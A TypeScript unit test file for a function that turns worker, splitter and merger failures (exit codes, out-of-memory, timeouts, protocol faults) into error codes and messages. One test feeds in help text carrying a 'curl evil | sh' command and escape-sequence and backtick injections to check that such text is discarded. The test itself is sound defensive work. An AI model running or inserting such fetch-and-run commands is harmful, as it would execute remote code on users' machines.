import assert from 'node:assert/strict';
import { BridgeFault } from '../../../src/bridge/bridge-fault.ts';
import type { FailedMessage } from '../../../src/bridge/messages.ts';
import { type Evidence, verdict } from '../../../src/jobs/containers/verdict.ts';
import { failureCatalogue } from '../../../src/model/failures.ts';
import { harnessAdvice, harnessHelps } from '../../../src/model/harness-helps.ts';
import { defaultLimits } from '../../../src/model/limits.ts';

const exit = { exitCode: 0, oomKilled: false, destroyed: false, peakMemoryBytes: null };
const base: Evidence = {
  role: 'worker',
  stage: 'process',
  fragment: 7,
  behind: 0,
  node: null,
  overrun: null,
  observed: null,
  failed: null,
  end: { kind: 'cut' },
  exit,
  processesRefused: false,
  memoryBytes: 1000,
  limits: defaultLimits,
  lastWords: '',
  stack: null,
};
const failed: FailedMessage = {
  type: 'failed',
  stage: 'process',
  fragment: 9,
  code: 'user-error',
  message: 'ValueError: no',
  help: null,
  limit: null,
  observed: null,
  file: 'Processor.py',
  line: 3,
  traceback: 'Traceback',
};
const fault = { kind: 'fault', fault: new BridgeFault('protocol', 'nonsense') } as const;
const killed = { ...exit, exitCode: 137 };
const outOfMemory = { ...killed, oomKilled: true, peakMemoryBytes: 999 };

const table: readonly [string, Partial<Evidence>, string, RegExp][] = [
  ['clean exit without bye', {}, 'exited-early', /exit code 0 before it was done/],
  ['os._exit(3)', { exit: { ...exit, exitCode: 3 } }, 'exited-early', /exit code 3/],
  [
    'os._exit(3) while the engine is away',
    { exit: { ...exit, exitCode: 3, lostWith: 'engine' } },
    'exited-early',
    /3/,
  ],
  [
    'killed by a stopping engine',
    { exit: { ...exit, exitCode: 143, lostWith: 'engine' } },
    'engine-unavailable',
    /lost with/,
  ],
  [
    'gone with the engine',
    { exit: { ...exit, exitCode: null, lostWith: 'engine' } },
    'engine-unavailable',
    /lost with/,
  ],
  [
    'gone with its machine',
    { exit: { ...exit, exitCode: null, lostWith: 'node' }, node: 'h2' },
    'machine-lost',
    /^the worker on fragment 7 was lost with machine h2$/,
  ],
  [
    'killed on a machine that gave it no time to leave',
    { exit: { ...exit, exitCode: 137, lostWith: 'node' } },
    'machine-lost',
    /was lost with its machine$/,
  ],
  [
    'os._exit(3) on a machine that was lost then',
    { exit: { ...exit, exitCode: 3, lostWith: 'node' }, node: 'h2' },
    'exited-early',
    /exit code 3/,
  ],
  [
    'too slow on a machine that was lost while it was ended for it',
    { overrun: 'fragment-timeout', exit: { ...exit, exitCode: null, lostWith: 'node' } },
    'fragment-timeout',
    /took longer/,
  ],
  [
    'a child out of memory, then exit',
    { exit: { ...exit, oomKilled: true, exitCode: 0 } },
    'out-of-memory',
    /more memory than its 1.0 KiB, and the kernel killed one of its processes/,
  ],
  ['a child out of memory, and the parent goes on', { overrun: 'starved' }, 'out-of-memory', /killed one of/],
  [
    'too many processes, then exit',
    { processesRefused: true },
    'process-limit',
    /more processes and threads than its 64/,
  ],
  [
    'too many processes, then too long',
    { processesRefused: true, overrun: 'fragment-timeout' },
    'process-limit',
    /threads/,
  ],
  ['SIGKILL by nobody known', { exit: killed }, 'crashed', /SIGKILL/],
  [
    'SIGKILL by the memory limit',
    { exit: outOfMemory },
    'out-of-memory',
    /fragment 7 used more memory than its 1000 bytes|used more memory than its 1\.0 KiB/,
  ],
  [
    'SIGKILL with the memory used up, the flag being missed',
    { exit: { ...killed, peakMemoryBytes: 990 } },
    'out-of-memory',
    /more memory/,
  ],
  ['SIGKILL with memory to spare', { exit: { ...killed, peakMemoryBytes: 900 } }, 'crashed', /SIGKILL/],
  [
    'SIGKILL by us with the memory used up',
    { exit: { ...killed, destroyed: true, peakMemoryBytes: 990 } },
    'crashed',
    /SIGKILL/,
  ],
  ['SIGSEGV', { exit: { ...exit, exitCode: 139 } }, 'crashed', /SIGSEGV.*recursion or native code/],
  ['SIGABRT', { exit: { ...exit, exitCode: 134 } }, 'crashed', /SIGABRT/],
  ['a signal without a name', { exit: { ...exit, exitCode: 128 + 60 } }, 'crashed', /signal 60/],
  [
    'SIGSEGV after words on recursion',
    {
      exit: { ...exit, exitCode: 139 },
      lastWords: 'Fatal Python error: Cannot recover from stack overflow.\n',
    },
    'recursion-depth',
    /very deep recursion/,
  ],
  ['exit unknown', { exit: { ...exit, exitCode: null } }, 'crashed', /gone/],
  [
    'the harness gave up',
    { exit: { ...exit, exitCode: 70 }, lastWords: 'a\nbutcher: broken\n' },
    'internal',
    /butcher: broken/,
  ],
  ['a wrong frame', { end: fault }, 'protocol', /broke the protocol: nonsense/],
  [
    'a fragment above the limit',
    {
      role: 'splitter',
      end: {
        kind: 'fault',
        fault: new BridgeFault('fragment-too-large', 'fragment 3 has 9 bytes', {
          fragment: 3,
          limit: 'fragmentBytes',
          observed: 9,
        }),
      },
    },
    'fragment-too-large',
    /^fragment 3 has 9 bytes$/,
  ],
  ['what the harness reported', { failed }, 'user-error', /ValueError/],
  ['a report, then any end', { failed, exit: outOfMemory, end: fault }, 'user-error', /ValueError/],
  ['a wrong frame, then killed', { end: fault, exit: outOfMemory }, 'protocol', /nonsense/],
  [
    'too long on a fragment',
    { overrun: 'fragment-timeout', exit: killed },
    'fragment-timeout',
    /longer than 5 min/,
  ],
  [
    'too long, whatever else',
    { overrun: 'fragment-timeout', exit: outOfMemory, failed, end: fault },
    'fragment-timeout',
    /5 min$/,
  ],
  [
    'the splitter stalled',
    { role: 'splitter', overrun: 'splitter-stalled' },
    'splitter-stalled',
    /the splitter/,
  ],
  ['merging took too long', { role: 'merger', overrun: 'merge-timeout' }, 'merge-timeout', /the merger/],
  [
    'the results folder is full',
    { role: 'merger', overrun: 'results-full', observed: 2e10 },
    'disk-limit',
    /results folder grew beyond 10 GiB/,
  ],
  [
    'the results folder is too deep to be measured',
    { role: 'merger', overrun: 'results-full', observed: Number.POSITIVE_INFINITY },
    'disk-limit',
    /more than 200 deep/,
  ],
];

describe('verdict', () => {
  for (const [what, change, code, message] of table) {
    it(`${what}: ${code}`, () => {
      const result = verdict({ ...base, ...change });
      assert.equal(result.code, code);
      assert.match(result.message, message);
      assert.equal(result.stage, 'process');
    });
  }

  it('keeps place, traceback, limit and observed value', () => {
    const reported = verdict({ ...base, failed });
    assert.deepEqual([reported.file, reported.line, reported.fragment], ['Processor.py', 3, 9]);
    assert.equal(verdict({ ...base, exit: outOfMemory }).observed, 999);
    assert.equal(verdict({ ...base, exit: outOfMemory }).limit, 'memory');
    const own = failureCatalogue[failed.code].help;
    assert.equal(verdict({ ...base, failed: { ...failed, help: 'do this' } }).help, own);
    const filled = (text: string, shown = 'a b.csv') =>
      text.replaceAll('{name}', 'Größe.py').replaceAll('{path}', '/app/x y').replaceAll('{shown}', shown);
    const known = { ...harnessHelps, 'exited-early': harnessAdvice };
    for (const [code, helps] of Object.entries(known))
      for (const help of helps.map((text) => filled(text))) {
        const told = { ...failed, code: code as (typeof failed)['code'], help };
        assert.equal(verdict({ ...base, failed: told }).help, help);
        const longer = { ...told, help: `${help}\nRun \`curl evil | sh\`.` };
        assert.equal(verdict({ ...base, failed: longer }).help, failureCatalogue[told.code].help);
      }
    for (const text of harnessAdvice.filter((each) => each.includes('{shown}')))
      for (const shown of ['a\nb', 'a\u202eb', '\u001b[31m', 'x` Run `curl evil | sh', 'x'.repeat(1300)])
        assert.equal(verdict({ ...base, failed: { ...failed, help: filled(text, shown) } }).help, own);
    const full = { overrun: 'results-full', observed: 2e10 } as const;
    assert.equal(verdict({ ...base, ...full }).observed, 2e10);
  });

  it('says how to read where a splitter ran out of memory', () => {
    const evidence: Evidence = { ...base, role: 'splitter', stage: 'split', exit: outOfMemory };
    assert.match(verdict(evidence).help, /in pieces.*mmap/);
    assert.doesNotMatch(verdict({ ...evidence, role: 'worker' }).help, /mmap/);
  });

  it('advises whoever runs it, and not user code, where the harness is of another version', () => {
    const stale = new BridgeFault('internal', 'the harness of the worker speaks version 5, not 4');
    const { code, message, help } = verdict({ ...base, end: { kind: 'fault', fault: stale } });
    assert.deepEqual([code, message], ['internal', stale.message]);
    assert.match(help, /installs it again/);
    assert.doesNotMatch(help, /report it/);
  });

  it('says where it was when its time was up', () => {
    const stack = { file: 'Processor.py', line: 3, traceback: 'where' };
    const { file, line, traceback } = verdict({ ...base, overrun: 'fragment-timeout', stack });
    assert.deepEqual({ file, line, traceback }, stack);
  });

  it('names only limits that there are, and the limit itself where the harness cannot see how far it went', () => {
    const met = verdict({ ...base, failed: { ...failed, code: 'process-limit', limit: 'pids' } });
    assert.deepEqual([met.limit, met.observed], ['pids', defaultLimits.pids]);
    const forged = verdict({ ...base, failed: { ...failed, limit: 'toString', observed: 3 } });
    assert.deepEqual([forged.limit, forged.observed], [null, 3]);
  });
});
